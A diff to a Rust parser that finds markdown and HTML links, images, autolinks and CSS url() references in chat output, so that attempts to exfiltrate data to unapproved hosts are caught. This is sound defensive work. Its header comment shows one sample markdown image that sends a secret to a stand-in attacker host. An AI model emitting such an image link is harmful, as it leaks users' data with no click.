@@ -4,261 +4,895 @@
 //!
 //! Chat UIs render markdown; an image loads by itself, so
 //! `![](https://evil.example/log?d=<secret>)` sends data the moment it is
-//! shown (the known zero-click channel). Handled forms: markdown images
-//! and inline links (`![alt](url "title")`, `[text](url)`) and HTML
-//! `<img ... src=...>` / `<a ... href=...>` tags. Reference-style links,
-//! autolinks and bare URLs are not rewritten (they need a click).
+//! shown (zero-click), and a link sends it on one click. Parsed as
+//! CommonMark and HTML do, with no length limit an attacker can exceed
+//! to hide a link:
+//! - inline links and images with nested brackets and backslash escapes
+//!   in the text, angle-bracket destinations (spaces allowed), line
+//!   breaks inside `( )`, titles (`"…"`, `'…'`, `(…)`);
+//! - reference images `![a][x]`, `![x][]`, `![x]` and definitions
+//!   `[x]: url "title"` anywhere in the text;
+//! - autolinks `<https://…>` and bare URLs (`scheme://…` up to
+//!   whitespace or `<`);
+//! - HTML tags (any name) with `src`, `srcset` (every candidate),
+//!   `poster`, `data`, `background`, `href`, `action`, `formaction`,
+//!   `lowsrc`, `dynsrc`, `ping`, `xlink:href` and CSS `url()` in `style`;
+//!   CSS `url(…)` anywhere (`<style>` blocks).
 //!
-//! Decisions for a URL whose host is not on `response.allowedHosts`
-//! (exact, or `*.suffix` for the suffix and its subdomains; relative URLs
-//! and `data:` images never leave the page and are allowed):
-//! - image: always removed (markdown keeps its alt text, HTML drops the
-//!   tag); action `redact`.
-//! - link that carries data (long, high-entropy, percent-encoded or
-//!   `@`-bearing query/path values, or a pseudonym token): defanged, the
-//!   link text stays and the URL goes; action `redact`.
-//! - other links: `flag` (text untouched).
-//! - `javascript:`, `vbscript:` and `data:` links are always defanged.
-//!
-//! Findings: kind `exfiltration`, type `IMAGE` or `LINK`.
+//! A construct not closed within [`HOLD`] bytes of its opener is reported
+//! as [`Form::Opener`] (the caller neutralizes the opener): a stream must
+//! decide after a bounded hold-back, and a one-shot screening decides the
+//! same way. Everything is linear in the text and never panics.
 
 use std::ops::Range;
 
-/// Longest label/alt text, URL and title considered, in bytes.
-pub(crate) const MAX_LABEL: usize = 1024;
-pub(crate) const MAX_URL: usize = 2048;
-pub(crate) const MAX_TITLE: usize = 256;
-/// Longest HTML tag considered.
-pub(crate) const MAX_TAG: usize = 2048;
+/// Longest construct (opener to close) parsed in full; see [`Form::Opener`].
+pub const HOLD: usize = 8 * 1024;
+
+/// Deepest parenthesis nesting in an inline destination (as cmark).
+const MAX_PARENS: usize = 32;
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Form {
+    /// `[text](url)` / `![alt](url)`.
+    Inline,
+    /// `![alt][x]`, `![x][]`, `![x]`: the URL is in a definition.
+    RefImage,
+    /// `[x]: url "title"`.
+    Definition,
+    /// `<scheme:…>`.
+    Autolink,
+    /// `scheme://…` in text; `long` when it runs past [`HOLD`].
+    Bare,
+    /// An HTML tag with URL attributes.
+    Html,
+    /// CSS `url(…)` outside a tag.
+    Css,
+    /// A `[`, `![` or `<` whose construct did not close within [`HOLD`].
+    Opener,
+}
 
 pub(crate) struct Link {
     pub span: Range<usize>,
+    /// First URL (empty for `RefImage` and `Opener`).
     pub url: Range<usize>,
+    /// Further URLs of the same construct (`srcset`, more attributes).
+    pub more: Vec<Range<usize>>,
     /// Visible text (markdown label / alt), if any.
     pub label: Range<usize>,
+    /// Loads by itself (zero-click): images, media, frames, stylesheets.
     pub image: bool,
-    pub html: bool,
+    pub form: Form,
+    /// A bare URL cut at [`HOLD`] bytes.
+    pub long: bool,
 }
 
-enum Parse {
-    Done(Link),
+impl Link {
+    fn new(form: Form, span: Range<usize>, url: Range<usize>) -> Link {
+        Link {
+            label: span.start..span.start,
+            span,
+            url,
+            more: Vec::new(),
+            image: false,
+            form,
+            long: false,
+        }
+    }
+}
+
+/// Parse outcome of one construct.
+enum R<T> {
+    Ok(T),
+    /// Ran out of text: may still close.
     More,
+    /// Ran past `HOLD`.
+    Long,
     Fail,
 }
 
-/// Every link and image, left to right, plus the earliest start of an
-/// unfinished one at the end (`text.len()` if none).
-pub(crate) fn find(text: &str) -> (Vec<Link>, usize) {
-    let t = text.as_bytes();
-    let mut out = Vec::new();
-    let mut pending = t.len();
-    let mut i = 0;
-    while i < t.len() {
-        let r = match t[i] {
-            b'!' if i + 1 == t.len() => Parse::More,
-            b'!' if t[i + 1] == b'[' => markdown(t, i, true),
-            b'[' => markdown(t, i, false),
-            b'<' => html(t, i),
-            _ => Parse::Fail,
-        };
-        match r {
-            Parse::Done(l) => {
-                i = l.span.end;
-                out.push(l);
-                continue;
-            }
-            Parse::More => pending = pending.min(i),
-            Parse::Fail => {}
-        }
-        i += 1;
-    }
-    (out, pending)
+struct P<'a> {
+    t: &'a [u8],
+    /// The text ends here: the end closes a line (a virtual `\n`).
+    eof: bool,
+    out: Vec<Link>,
+    pending: usize,
+    /// Per closing byte (`"`, `'`, `)`, `\n`): a scan from `.0` found
+    /// the first unescaped occurrence at `.1` (`len` if none).
+    memo: [(usize, usize); 4],
 }
 
-fn markdown(t: &[u8], start: usize, image: bool) -> Parse {
-    let mut i = start + if image { 2 } else { 1 };
-    let label_start = i;
-    loop {
-        match t.get(i) {
-            None => return Parse::More,
-            Some(b']') => break,
-            Some(b'\n') => return Parse::Fail,
-            Some(_) if i - label_start >= MAX_LABEL => return Parse::Fail,
-            Some(_) => i += 1,
+/// True when `t[i]` is backslash-escaped (parity of at most 128
+/// backslashes before it, so the answer depends on nearby text only).
+fn escaped(t: &[u8], i: usize) -> bool {
+    let mut n = 0;
+    while n < 128 && n < i && t[i - 1 - n] == b'\\' {
+        n += 1;
+    }
+    n % 2 == 1
+}
+
+fn ws(c: u8) -> bool {
+    c.is_ascii_whitespace()
+}
+
+/// Every link and image, by start, plus the earliest start of one that
+/// may still be forming at the end (`text.len()` if none).
+pub(crate) fn find(text: &str) -> (Vec<Link>, usize) {
+    scan(text, true)
+}
+
+/// [`find`]; with `eof` false the text may go on (a stream), so a
+/// construct that reaches the end is pending instead of closed by it.
+pub(crate) fn scan(text: &str, eof: bool) -> (Vec<Link>, usize) {
+    let t = text.as_bytes();
+    let mut p =
+        P { t, eof, out: Vec::new(), pending: t.len(), memo: [(0, 0); 4] };
+    p.markdown();
+    p.html();
+    p.bare();
+    p.css();
+    let mut out = p.out;
+    for l in &mut out {
+        // Cuts at HOLD may fall inside a character.
+        for r in std::iter::once(&mut l.span)
+            .chain(std::iter::once(&mut l.url))
+            .chain(l.more.iter_mut())
+        {
+            r.end = floor(text, r.end);
+            r.start = floor(text, r.start).min(r.end);
         }
     }
-    let label = label_start..i;
-    i += 1;
-    match t.get(i) {
-        None => return Parse::More,
-        Some(b'(') => i += 1,
-        Some(_) => return Parse::Fail,
+    crate::order::sort_by_key(&mut out, |l| (l.span.start, l.span.end));
+    // Bare URLs and CSS inside another construct are that construct's.
+    let mut reach = 0;
+    let mut kept = Vec::with_capacity(out.len());
+    for l in out {
+        let inner = matches!(l.form, Form::Bare | Form::Css);
+        if inner && l.span.end <= reach {
+            continue;
+        }
+        if !inner {
+            reach = reach.max(l.span.end);
+        }
+        kept.push(l);
     }
-    while t.get(i) == Some(&b' ') {
-        i += 1;
+    (kept, floor(text, p.pending))
+}
+
+fn floor(s: &str, mut i: usize) -> usize {
+    if i >= s.len() {
+        return s.len();
     }
-    let angle = t.get(i) == Some(&b'<');
-    if angle {
-        i += 1;
+    while i > 0 && !s.is_char_boundary(i) {
+        i -= 1;
     }
-    let url_start = i;
-    let mut depth = 0usize;
-    loop {
-        match t.get(i) {
-            None => return Parse::More,
-            Some(b'>') if angle => break,
-            Some(b'(') if !angle => {
-                depth += 1;
-                i += 1;
-            }
-            Some(b')') if !angle && depth > 0 => {
-                depth -= 1;
-                i += 1;
-            }
-            Some(b')') if !angle => break,
-            Some(c) if c.is_ascii_whitespace() => break,
-            Some(b'<') if angle => return Parse::Fail,
-            Some(_) if i - url_start >= MAX_URL => return Parse::Fail,
-            Some(_) => i += 1,
+    i
+}
+
+impl P<'_> {
+    fn n(&self) -> usize {
+        self.t.len()
+    }
+
+    /// Byte `i` of a construct opened at `start`.
+    fn at(&self, start: usize, i: usize) -> R<u8> {
+        if i >= start.saturating_add(HOLD) {
+            R::Long
+        } else if i == self.n() && self.eof {
+            R::Ok(b'\n')
+        } else if i > self.n() && self.eof {
+            R::Fail
+        } else if i >= self.n() {
+            R::More
+        } else {
+            R::Ok(self.t[i])
         }
     }
-    let url = url_start..i;
-    if url.is_empty() {
-        return Parse::Fail;
-    }
-    if angle {
-        i += 1;
-    }
-    while t.get(i).is_some_and(|c| *c == b' ') {
-        i += 1;
-    }
-    if let Some(&q @ (b'"' | b'\'')) = t.get(i) {
-        let ts = i;
-        i += 1;
-        loop {
-            match t.get(i) {
-                None => return Parse::More,
-                Some(&c) if c == q => break,
-                Some(b'\n') => return Parse::Fail,
-                Some(_) if i - ts > MAX_TITLE => return Parse::Fail,
-                Some(_) => i += 1,
-            }
+
+    /// First unescaped `c` (one of `"`, `'`, `)`) at or after `i`.
+    fn next(&mut self, c: u8, i: usize) -> usize {
+        let k = match c {
+            b'"' => 0,
+            b'\'' => 1,
+            b')' => 2,
+            _ => 3,
+        };
+        let (from, found) = self.memo[k];
+        if from <= i && i <= found {
+            return found;
         }
-        i += 1;
-        while t.get(i) == Some(&b' ') {
+        let mut j = i;
+        while j < self.n() {
+            if j == from && from < found {
+                j = found;
+                break;
+            }
+            if self.t[j] == c && (c == b'\n' || !escaped(self.t, j)) {
+                break;
+            }
+            j += 1;
+        }
+        self.memo[k] = (i, j);
+        j
+    }
+
+    fn opener(&mut self, start: usize, len: usize, image: bool) {
+        let mut l = Link::new(Form::Opener, start..start + len, start..start);
+        l.image = image;
+        self.out.push(l);
+    }
+
+    fn markdown(&mut self) {
+        let t = self.t;
+        // Unmatched `[` openers, oldest from `head` on.
+        let mut open: Vec<usize> = Vec::new();
+        let mut head = 0;
+        let mut i = 0;
+        while i < t.len() {
+            while open.get(head).is_some_and(|&o| i >= o + HOLD) {
+                let o = open[head];
+                head += 1;
+                {
+                    let image =
+                        o > 0 && t[o - 1] == b'!' && !escaped(t, o - 1);
+                    let s = if image { o - 1 } else { o };
+                    self.opener(s, o + 1 - s, image);
+                }
+            }
+            match t[i] {
+                b'[' if !escaped(t, i) => open.push(i),
+                b']' if !escaped(t, i) && open.len() > head => {
+                    if let Some(o) = open.pop() {
+                        self.closed(o, i);
+                    }
+                }
+                b'\n' if blank_after(t, i) => {
+                    open.clear();
+                    head = 0;
+                }
+                _ => {}
+            }
             i += 1;
         }
-    }
-    match t.get(i) {
-        None => Parse::More,
-        Some(b')') => Parse::Done(Link {
-            span: start..i + 1,
-            url,
-            label,
-            image,
-            html: false,
-        }),
-        Some(_) => Parse::Fail,
-    }
-}
-
-fn html(t: &[u8], start: usize) -> Parse {
-    let rest = &t[start + 1..];
-    let (image, name) = if starts_ci(rest, b"img") {
-        (true, 3)
-    } else if starts_ci(rest, b"a") {
-        (false, 1)
-    } else {
-        let n = rest.len();
-        return if n < 3 && b"img"[..n].eq_ignore_ascii_case(rest) {
-            Parse::More
-        } else {
-            Parse::Fail
-        };
-    };
-    let mut i = start + 1 + name;
-    match t.get(i) {
-        None => return Parse::More,
-        Some(c) if c.is_ascii_whitespace() => {}
-        Some(_) => return Parse::Fail,
-    }
-    let attrs = i;
-    loop {
-        match t.get(i) {
-            None => return Parse::More,
-            Some(b'>') => break,
-            Some(b'<') => return Parse::Fail,
-            Some(_) if i - start >= MAX_TAG => return Parse::Fail,
-            Some(_) => i += 1,
+        if let Some(&o) = open.get(head) {
+            let s = if o > 0 && t[o - 1] == b'!' { o - 1 } else { o };
+            self.pending = self.pending.min(s);
+        }
+        if t.last() == Some(&b'!') {
+            self.pending = self.pending.min(t.len() - 1);
         }
     }
-    let want: &[u8] = if image { b"src" } else { b"href" };
-    let Some(url) = attr(t, attrs..i, want) else { return Parse::Fail };
-    Parse::Done(Link {
-        span: start..i + 1,
-        url,
-        label: i + 1..i + 1,
-        image,
-        html: true,
-    })
-}
 
-fn starts_ci(t: &[u8], p: &[u8]) -> bool {
-    t.len() >= p.len() && t[..p.len()].eq_ignore_ascii_case(p)
-}
-
-/// Value range of attribute `name` in the tag body `r`.
-fn attr(t: &[u8], r: Range<usize>, name: &[u8]) -> Option<Range<usize>> {
-    let mut i = r.start;
-    while i < r.end {
-        let at_word = i == r.start || t[i - 1].is_ascii_whitespace();
-        if at_word && starts_ci(&t[i..r.end], name) {
-            let mut j = i + name.len();
-            while j < r.end && t[j].is_ascii_whitespace() {
-                j += 1;
+    /// `[` at `o` matched by `]` at `j`.
+    fn closed(&mut self, o: usize, j: usize) {
+        let t = self.t;
+        let image = o > 0 && t[o - 1] == b'!' && !escaped(t, o - 1);
+        let start = if image { o - 1 } else { o };
+        let label = o + 1..j;
+        let r = match t.get(j + 1) {
+            None if self.eof => R::Fail,
+            None => R::More,
+            Some(b'(') => self.inline(start, j + 2),
+            Some(b':') => self.definition(start, o, j),
+            Some(_) => R::Fail,
+        };
+        let r = match r {
+            R::Fail if image => self.ref_image(start, j),
+            r => r,
+        };
+        match r {
+            R::Ok(mut l) => {
+                l.label = label;
+                l.image |= image && l.form != Form::Definition;
+                self.out.push(l);
             }
-            if j < r.end && t[j] == b'=' {
-                j += 1;
-                while j < r.end && t[j].is_ascii_whitespace() {
-                    j += 1;
+            R::More => self.pending = self.pending.min(start),
+            R::Long => self.opener(start, o + 1 - start, image),
+            R::Fail => {}
+        }
+    }
+
+    fn skip_ws(&self, start: usize, mut i: usize) -> R<usize> {
+        loop {
+            match self.at(start, i) {
+                R::Ok(c) if ws(c) => i += 1,
+                R::Ok(_) => return R::Ok(i),
+                R::More => return R::More,
+                R::Long => return R::Long,
+                R::Fail => return R::Fail,
+            }
+        }
+    }
+
+    /// A link destination at `i`: its range and the index after it.
+    fn destination(
+        &self,
+        start: usize,
+        mut i: usize,
+        parens: bool,
+    ) -> R<(Range<usize>, usize)> {
+        macro_rules! at {
+            ($i:expr) => {
+                match self.at(start, $i) {
+                    R::Ok(c) => c,
+                    R::More => return R::More,
+                    R::Long => return R::Long,
+                    R::Fail => return R::Fail,
                 }
-                if j >= r.end {
-                    return None;
+            };
+        }
+        if at!(i) == b'<' {
+            i += 1;
+            let s = i;
+            loop {
+                match at!(i) {
+                    b'>' if !escaped(self.t, i) => {
+                        return R::Ok((s..i, i + 1))
+                    }
+                    b'<' if !escaped(self.t, i) => return R::Fail,
+                    b'\n' => return R::Fail,
+                    _ => i += 1,
                 }
-                let (s, stop): (usize, &[u8]) = match t[j] {
-                    b'"' => (j + 1, b"\""),
-                    b'\'' => (j + 1, b"'"),
-                    _ => (j, b" \t\n\r>"),
-                };
-                let mut e = s;
-                while e < r.end && !stop.contains(&t[e]) {
+            }
+        }
+        let s = i;
+        let mut depth = 0usize;
+        loop {
+            let c = at!(i);
+            if ws(c) || c < 0x20 {
+                break;
+            }
+            if !escaped(self.t, i) {
+                if c == b'(' {
+                    depth += 1;
+                    if depth > MAX_PARENS {
+                        return R::Fail;
+                    }
+                } else if c == b')' {
+                    if depth == 0 && parens {
+                        break;
+                    }
+                    depth = depth.saturating_sub(1);
+                }
+            }
+            i += 1;
+        }
+        if parens && depth > 0 {
+            return R::Fail;
+        }
+        R::Ok((s..i, i))
+    }
+
+    /// `(dest "title")` from `i` (after the `(`).
+    fn inline(&mut self, start: usize, i: usize) -> R<Link> {
+        let i = match self.skip_ws(start, i) {
+            R::Ok(i) => i,
+            R::More => return R::More,
+            R::Long => return R::Long,
+            R::Fail => return R::Fail,
+        };
+        let (url, mut i) = if self.t[i] == b')' {
+            (i..i, i)
+        } else {
+            match self.destination(start, i, true) {
+                R::Ok(x) => x,
+                R::More => return R::More,
+                R::Long => return R::Long,
+                R::Fail => return R::Fail,
+            }
+        };
+        for round in 0..2 {
+            i = match self.skip_ws(start, i) {
+                R::Ok(i) => i,
+                R::More => return R::More,
+                R::Long => return R::Long,
+                R::Fail => return R::Fail,
+            };
+            let c = self.t[i];
+            if c == b')' {
+                return R::Ok(Link::new(Form::Inline, start..i + 1, url));
+            }
+            if round == 1 || !matches!(c, b'"' | b'\'' | b'(') {
+                return R::Fail;
+            }
+            let close = if c == b'(' { b')' } else { c };
+            let e = self.next(close, i + 1);
+            if e >= start.saturating_add(HOLD) {
+                return R::Long;
+            }
+            if e >= self.n() {
+                return if self.eof { R::Fail } else { R::More };
+            }
+            i = e + 1;
+        }
+        R::Fail
+    }
+
+    /// `[x]: dest …` to the end of its line.
+    fn definition(&mut self, start: usize, o: usize, j: usize) -> R<Link> {
+        let mut i = j + 2;
+        let mut newline = false;
+        loop {
+            match self.at(start, i) {
+                R::Ok(b'\n') if !newline => newline = true,
+                R::Ok(c) if ws(c) && c != b'\n' => {}
+                R::Ok(b'\n') => return R::Fail,
+                R::Ok(_) => break,
+                R::More => return R::More,
+                R::Long => return R::Long,
+                R::Fail => return R::Fail,
+            }
+            i += 1;
+        }
+        let (url, mut i) = match self.destination(start, i, false) {
+            R::Ok(x) => x,
+            R::More => return R::More,
+            R::Long => return R::Long,
+            R::Fail => return R::Fail,
+        };
+        if url.is_empty() && self.t.get(url.start) != Some(&b'>') {
+            return R::Fail;
+        }
+        if i < self.n() {
+            i = self.next(b'\n', i);
+        }
+        if i >= start.saturating_add(HOLD) {
+            return R::Long;
+        }
+        if i >= self.n() && !self.eof {
+            return R::More;
+        }
+        let i = i.min(self.n());
+        let _ = o;
+        R::Ok(Link::new(Form::Definition, start..i, url))
+    }
+
+    /// `![alt]` then optionally `[x]` or `[]`.
+    fn ref_image(&mut self, start: usize, j: usize) -> R<Link> {
+        let t = self.t;
+        let mut end = j + 1;
+        if t.get(end) == Some(&b'[') {
+            let mut i = end + 1;
+            loop {
+                match self.at(start, i) {
+                    R::Ok(b']') if !escaped(t, i) => {
+                        end = i + 1;
+                        break;
+                    }
+                    R::Ok(b'[') if !escaped(t, i) => break,
+                    R::Ok(_) => i += 1,
+                    R::More => return R::More,
+                    R::Long => break,
+                    R::Fail => break,
+                }
+            }
+        }
+        R::Ok(Link::new(Form::RefImage, start..end, j..j))
+    }
+
+    fn html(&mut self) {
+        let t = self.t;
+        if !t.contains(&b'<') {
+            return;
+        }
+        let ends = tag_ends(t);
+        let mut i = 0;
+        while let Some(k) = t[i..].iter().position(|&c| c == b'<') {
+            let p = i + k;
+            i = p + 1;
+            match self.autolink(p) {
+                R::Ok(l) => {
+                    i = l.span.end;
+                    self.out.push(l);
+                    continue;
+                }
+                R::More => {
+                    self.pending = self.pending.min(p);
+                    continue;
+                }
+                _ => {}
+            }
+            let mut k = p + 1;
+            while k < t.len()
+                && (t[k].is_ascii_alphanumeric()
+                    || (k > p + 1 && b"-:".contains(&t[k])))
+            {
+                k += 1;
+            }
+            if k == p + 1 || !t[p + 1].is_ascii_alphabetic() {
+                if p + 1 == t.len() {
+                    self.pending = self.pending.min(p);
+                }
+                continue;
+            }
+            if k == t.len() {
+                self.pending = self.pending.min(p);
+                continue;
+            }
+            if !(ws(t[k]) || t[k] == b'/' || t[k] == b'>') {
+                continue;
+            }
+            let e = ends.get(k).copied().unwrap_or(u32::MAX) as usize;
+            if e >= p.saturating_add(HOLD) || e >= t.len() {
+                if t.len() >= p.saturating_add(HOLD) {
+                    self.opener(p, 1, true);
+                } else {
+                    self.pending = self.pending.min(p);
+                }
+                continue;
+            }
+            let name = &t[p + 1..k];
+            let link_tag = [&b"a"[..], b"area", b"form", b"button", b"input"]
+                .iter()
+                .any(|n| n.eq_ignore_ascii_case(name));
+            let urls = attrs(t, k..e, name);
+            if !urls.is_empty() {
+                let mut l = Link::new(Form::Html, p..e + 1, urls[0].0.clone());
+                l.label = e + 1..e + 1;
+                // `<a href>` and form targets need a click; everything
+                // else loads by itself.
+                l.image = !(link_tag && urls.iter().all(|u| u.1));
+                l.more = urls[1..].iter().map(|u| u.0.clone()).collect();
+                self.out.push(l);
+            }
+            i = e + 1;
+        }
+    }
+
+    /// `<scheme:…>` at `p`.
+    fn autolink(&self, p: usize) -> R<Link> {
+        let t = self.t;
+        let mut i = p + 1;
+        while i < t.len()
+            && i - p <= 33
+            && (t[i].is_ascii_alphanumeric() || b"+.-".contains(&t[i]))
+        {
+            i += 1;
+        }
+        if i >= t.len() {
+            if self.eof {
+                return R::Fail;
+            }
+            return if t[p + 1..].iter().all(u8::is_ascii_alphabetic) {
+                R::More
+            } else {
+                R::Fail
+            };
+        }
+        if t[i] != b':' || i - p < 3 || !t[p + 1].is_ascii_alphabetic() {
+            return R::Fail;
+        }
+        let s = p + 1;
+        loop {
+            match self.at(p, i) {
+                R::Ok(b'>') => {
+                    let mut l = Link::new(Form::Autolink, p..i + 1, s..i);
+                    l.label = s..i;
+                    return R::Ok(l);
+                }
+                R::Ok(c) if ws(c) || c == b'<' || c < 0x20 => return R::Fail,
+                R::Ok(_) => i += 1,
+                R::More => return R::More,
+                R::Long => return R::Fail,
+                R::Fail => return R::Fail,
+            }
+        }
+    }
+
+    fn bare(&mut self) {
+        let t = self.t;
+        let (mut run_from, mut run_end) = (usize::MAX, 0);
+        let mut c = 0;
+        while let Some(k) =
+            t.get(c..).and_then(|r| r.windows(3).position(|w| w == b"://"))
+        {
+            let colon = c + k;
+            c = colon + 1;
+            let mut s = colon;
+            while s > 0
+                && colon - s < 32
+                && (t[s - 1].is_ascii_alphanumeric()
+                    || b"+.-".contains(&t[s - 1]))
+            {
+                s -= 1;
+            }
+            while s < colon && !t[s].is_ascii_alphabetic() {
+                s += 1;
+            }
+            if s == colon {
+                continue;
+            }
+            if !(run_from <= colon && colon < run_end) {
+                let mut e = colon;
+                while e < t.len()
+                    && !(ws(t[e]) || t[e] == b'<' || t[e] == b'>')
+                {
                     e += 1;
                 }
-                return Some(s..e);
+                (run_from, run_end) = (colon, e);
             }
+            let e = run_end;
+            let lim = s.saturating_add(HOLD);
+            let long = e >= lim;
+            if e == t.len() && !long && !self.eof {
+                self.pending = self.pending.min(s);
+                continue;
+            }
+            let e = if long { lim } else { trim_punct(t, colon + 3, e) };
+            let mut l = Link::new(Form::Bare, s..e, s..e);
+            l.label = s..e;
+            l.long = long;
+            self.out.push(l);
         }
-        i += 1;
     }
-    None
+
+    fn css(&mut self) {
+        let t = self.t;
+        let mut i = 0;
+        while let Some(k) = t.get(i..).and_then(|r| {
+            r.windows(4).position(|w| w.eq_ignore_ascii_case(b"url("))
+        }) {
+            let p = i + k;
+            i = p + 4;
+            if p > 0 && (t[p - 1].is_ascii_alphanumeric() || t[p - 1] == b'_')
+            {
+                continue;
+            }
+            let s = match self.skip_ws(p, p + 4) {
+                R::Ok(s) => s,
+                R::More => {
+                    self.pending = self.pending.min(p);
+                    continue;
+                }
+                _ => continue,
+            };
+            let q = self.t[s];
+            let (us, close) =
+                if q == b'"' || q == b'\'' { (s + 1, q) } else { (s, b')') };
+            let e = self.next(close, us);
+            if e >= p.saturating_add(HOLD) {
+                self.opener(p, 4, true);
+                continue;
+            }
+            if e >= t.len() && !self.eof {
+                self.pending = self.pending.min(p);
+                continue;
+            }
+            // CSS closes a `url(` at the end of the input.
+            let e = e.min(t.len());
+            let end = if close == b')' || t.get(e + 1) != Some(&b')') {
+                (e + 1).min(t.len())
+            } else {
+                e + 2
+            };
+            let mut l = Link::new(Form::Css, p..end, us..e);
+            l.image = true;
+            self.out.push(l);
+        }
+    }
+}
+
+/// Is the line after the newline at `i` blank (paragraph break)?
+fn blank_after(t: &[u8], i: usize) -> bool {
+    let mut j = i + 1;
+    while j < t.len() && (t[j] == b' ' || t[j] == b'\t' || t[j] == b'\r') {
+        j += 1;
+    }
+    j < t.len() && t[j] == b'\n'
+}
+
+/// Drops trailing punctuation a renderer leaves out of a bare URL
+/// (never below `min`).
+fn trim_punct(t: &[u8], min: usize, mut e: usize) -> usize {
+    while e > min && b".,:;!?\"')*_~".contains(&t[e - 1]) {
+        e -= 1;
+    }
+    e
+}
+
+/// For every `i`, where a tag whose attributes are read from `i` (outside
+/// any value) ends: the index of its `>`, or `u32::MAX`. One backward
+/// pass over the quote-aware states, so every tag costs O(1) to close.
+fn tag_ends(t: &[u8]) -> Vec<u32> {
+    // States: 0 between attributes, 1 after `=`, 2 unquoted value,
+    // 3 in "…", 4 in '…'.
+    let none = u32::MAX;
+    let mut next = [none; 5];
+    let mut out = vec![none; t.len() + 1];
+    for i in (0..t.len()).rev() {
+        let c = t[i];
+        let here = i as u32;
+        let cur = [
+            match c {
+                b'>' => here,
+                b'=' => next[1],
+                _ => next[0],
+            },
+            match c {
+                b'>' => here,
+                b'"' => next[3],
+                b'\'' => next[4],
+                c if ws(c) => next[1],
+                _ => next[2],
+            },
+            match c {
+                b'>' => here,
+                c if ws(c) => next[0],
+                _ => next[2],
+            },
+            if c == b'"' { next[0] } else { next[3] },
+            if c == b'\'' { next[0] } else { next[4] },
+        ];
+        next = cur;
+        out[i] = next[0];
+    }
+    out
+}
+
+/// URL-valued attributes in the tag body `r` (quote-aware), each with
+/// "needs a click" (`href`/`ping` on link tags, `action`, `formaction`).
+fn attrs(t: &[u8], r: Range<usize>, tag: &[u8]) -> Vec<(Range<usize>, bool)> {
+    let mut out = Vec::new();
+    let mut i = r.start;
+    let link_tag =
+        [&b"a"[..], b"area"].iter().any(|n| n.eq_ignore_ascii_case(tag));
+    while i < r.end {
+        while i < r.end && (ws(t[i]) || t[i] == b'/') {
+            i += 1;
+        }
+        let ns = i;
+        while i < r.end && !(ws(t[i]) || b"/=>".contains(&t[i])) {
+            i += 1;
+        }
+        let name = &t[ns..i];
+        if name.is_empty() {
+            i += 1;
+            continue;
+        }
+        let mut j = i;
+        while j < r.end && ws(t[j]) {
+            j += 1;
+        }
+        if j >= r.end || t[j] != b'=' {
+            continue;
+        }
+        j += 1;
+        while j < r.end && ws(t[j]) {
+            j += 1;
+        }
+        let (vs, ve, next) = match t.get(j) {
+            Some(&q @ (b'"' | b'\'')) if j < r.end => {
+                let mut e = j + 1;
+                while e < r.end && t[e] != q {
+                    e += 1;
+                }
+                (j + 1, e, e + 1)
+            }
+            _ => {
+                let mut e = j;
+                while e < r.end && !ws(t[e]) {
+                    e += 1;
+                }
+                (j, e, e)
+            }
+        };
+        i = next;
+        let is = |n: &str| name.eq_ignore_ascii_case(n.as_bytes());
+        let click = (link_tag && (is("href") || is("ping")))
+            || is("action")
+            || is("formaction");
+        if is("srcset") || is("imagesrcset") {
+            // Candidates: URL, then descriptors up to a comma.
+            let mut k = vs;
+            while k < ve {
+                while k < ve && (ws(t[k]) || t[k] == b',') {
+                    k += 1;
+                }
+                let us = k;
+                while k < ve && !ws(t[k]) {
+                    k += 1;
+                }
+                let mut ue = k;
+                while ue > us && t[ue - 1] == b',' {
+                    ue -= 1;
+                }
+                if ue > us {
+                    out.push((us..ue, false));
+                }
+                if ue == k {
+                    while k < ve && t[k] != b',' {
+                        k += 1;
+                    }
+                }
+            }
+        } else if is("style") {
+            let v = &t[vs..ve];
+            let mut k = 0;
+            while let Some(p) = v.get(k..).and_then(|x| {
+                x.windows(4).position(|w| w.eq_ignore_ascii_case(b"url("))
+            }) {
+                let mut s = k + p + 4;
+                while s < v.len() && ws(v[s]) {
+                    s += 1;
+                }
+                let close = match v.get(s) {
+                    Some(&q @ (b'"' | b'\'')) => {
+                        s += 1;
+                        q
+                    }
+                    _ => b')',
+                };
+                let mut e = s;
+                while e < v.len() && v[e] != close {
+                    e += 1;
+                }
+                out.push((vs + s..vs + e, false));
+                k = e;
+            }
+        } else if click
+            || [
+                "src",
+                "poster",
+                "data",
+                "background",
+                "href",
+                "lowsrc",
+                "dynsrc",
+                "xlink:href",
+                "codebase",
+                "manifest",
+                "icon",
+                "longdesc",
+                "cite",
+                "profile",
+            ]
+            .iter()
+            .any(|n| is(n))
+        {
+            out.push((vs..ve, click));
+        }
+    }
+    out
 }
 
 /// The host of an absolute or protocol-relative URL (lowercase, with
-/// port), or `None` for relative URLs and schemes without a host.
+/// port), or `None` for relative URLs and schemes without a host. Read
+/// as a browser does: tabs and line breaks dropped, `\\` as `/`, and
+/// `http:host` (no slashes) as a host.
 pub(crate) fn host(url: &str) -> Option<String> {
-    let lower = url.trim().to_ascii_lowercase();
-    let rest = if let Some(r) = lower.strip_prefix("//") {
+    let u: String = url
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .collect::<String>()
+        .trim_start_matches(|c: char| c <= ' ')
+        .chars()
+        .map(|c| if c == '\\' { '/' } else { c.to_ascii_lowercase() })
+        .collect::<String>();
+    let rest = if let Some(r) = u.strip_prefix("//") {
         r
     } else {
-        let (scheme, r) = lower.split_once("://")?;
-        if !scheme
-            .bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
+        let (scheme, r) = u.split_once(':')?;
+        if !scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+            || !scheme
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
         {
             return None;
         }
-        r
+        match r.strip_prefix("//") {
+            Some(r) => r,
+            None if matches!(
+                scheme,
+                "http" | "https" | "ftp" | "ws" | "wss"
+            ) =>
+            {
+                r.trim_start_matches('/')
+            }
+            None => return None,
+        }
     };
-    let auth = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
+    let auth = rest.split(['/', '?', '#']).next().unwrap_or("");
     let host = auth.rsplit('@').next().unwrap_or("");
     Some(host.to_string())
 }
@@ -342,22 +976,104 @@ pub(crate) fn carries_data(url: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn urls(t: &str) -> Vec<(&str, Form, bool)> {
+        find(t)
+            .0
+            .iter()
+            .map(|l| (&t[l.url.clone()], l.form, l.image))
+            .collect()
+    }
+
